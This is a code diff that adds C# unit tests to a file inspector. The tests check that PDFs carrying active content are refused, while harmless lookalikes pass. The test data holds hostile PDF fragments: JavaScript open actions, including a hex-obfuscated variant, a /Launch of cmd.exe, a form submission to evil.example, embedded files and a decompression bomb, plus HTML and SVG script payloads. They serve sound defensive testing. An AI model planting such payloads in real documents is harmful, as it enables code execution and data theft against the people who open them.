@@ -105,6 +105,37 @@ public sealed class InspectedTests
     }
 
     [Theory]
+    [InlineData("<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")]
+    [InlineData("<< /AA << /O << /S /#4aava#53cript /J#53 (app.alert(1)) >> >> >>")]
+    [InlineData("<< /S /Launch /F (cmd.exe) >>")]
+    [InlineData("<< /S /SubmitForm /F (https://evil.example) >>")]
+    [InlineData("<< /Names << /EmbeddedFiles 7 0 R >> >>")]
+    [InlineData("(never closed << /S /Launch >>")]
+    public void A_pdf_that_would_do_more_than_show_itself_is_refused_also_when_that_is_packed(string objects)
+    {
+        Assert.Equal(Inspected.Active, Inspected.Of(Pdf(objects)));
+        Assert.Equal(Inspected.Active, Inspected.Of(Packed(Encoding.Latin1.GetBytes(objects))));
+    }
+
+    [Theory]
+    [InlineData("<< /Title (How to /Launch a /JavaScript \\) project \\() /OpenAction [3 0 R /Fit] >> % /Launch")]
+    [InlineData("<< /Length 40 >> stream\n/JavaScript in the words of a page /JS\nendstream")]
+    [InlineData("<< /A << /S /URI /URI (https://example.com) >> /JSON true >>")]
+    public void A_pdf_that_only_speaks_of_such_things_is_fine(string objects) =>
+        Assert.Equal("pdf", Clean(Pdf(objects)).Kind.Key);
+
+    [Fact]
+    public void A_locked_pdf_a_bomb_in_one_and_what_cannot_be_unpacked_are_refused()
+    {
+        Assert.Equal(Inspected.Locked, Inspected.Of(Pdf("trailer << /Encrypt 9 0 R >>")));
+        Assert.Equal(Inspected.Damaged, Inspected.Of(Packed(new byte[80 * 1024 * 1024])));
+        Assert.Equal(Inspected.Damaged, Inspected.Of(Pdf("<< /Type /ObjStm /Filter /FlateDecode >> stream\nnot packed\nendstream")));
+        Assert.Equal(Inspected.Damaged, Inspected.Of(Pdf("<< /Type /ObjStm /Filter /LZWDecode >> stream\n/Launch\nendstream")));
+        Assert.Equal("pdf", Clean(Packed("<< /Type /Page >>"u8)).Kind.Key);
+        Assert.Equal("pdf", Clean(Pdf(new string('(', 5_000_000))).Kind.Key);
+    }
+
+    [Theory]
     [InlineData("<!doctype html><script>alert(1)</script>")]
     [InlineData("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")]
     [InlineData("<html>%PDF-1.7 %%EOF")]
@@ -153,6 +184,16 @@ public sealed class InspectedTests
         "pdf" => Sent.Pdf(),
         _ => "Error 809\n"u8.ToArray()
     };
+
+    private static byte[] Pdf(string objects) => Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj\n{objects}\nendobj\n%%EOF\n");
+
+    // As programs write it since PDF 1.5: objects in a stream.
+    private static byte[] Packed(ReadOnlySpan<byte> objects)
+    {
+        using var packed = new MemoryStream();
+        using (var zip = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true)) zip.Write(objects);
+        return [.. "%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"u8, .. packed.ToArray(), .. "\nendstream\nendobj\n%%EOF\n"u8];
+    }
 
     private static Inspected.Clean Clean(byte[] file) => Assert.IsType<Inspected.Clean>(Inspected.Of(file));
 }
